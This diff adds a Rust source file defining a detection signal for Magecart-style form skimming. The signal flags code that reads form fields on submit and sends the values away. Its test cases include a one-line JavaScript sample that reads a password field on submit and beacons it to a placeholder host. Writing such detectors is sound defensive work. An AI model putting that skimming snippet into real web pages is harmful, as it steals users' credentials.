@@ -1,0 +1,32 @@
+//! `fields-on-submit`.
+
+use crate::signals::{Atom, Signal, one};
+use crate::{ClassSet, Severity};
+
+pub(super) const SIGNAL: Signal = Signal {
+    id: "fields-on-submit",
+    description: "Field values are collected when the form is submitted or left, and sent away.",
+    severity: Severity::Medium,
+    classes: ClassSet::MAGECART,
+    needs: &[
+        one(&[Atom::FieldQuery, Atom::FormContents, Atom::CardField, Atom::PersonField]),
+        one(&[Atom::FormEvent]),
+        one(&[Atom::FieldValue]),
+        one(&[
+            Atom::AddressFromData,
+            Atom::Beacon,
+            Atom::Request,
+            Atom::Post,
+            Atom::Socket,
+            Atom::FormTarget,
+        ]),
+    ],
+    within: 260,
+    #[cfg(test)]
+    cases: crate::signals::Cases {
+        with: &[
+            "b.addEventListener('submit',function(){var v=document.querySelector('input[name=password]').value;navigator.sendBeacon('//c.example',v)})",
+        ],
+        without: &["b.addEventListener('submit',function(){check(this)})"],
+    },
+};
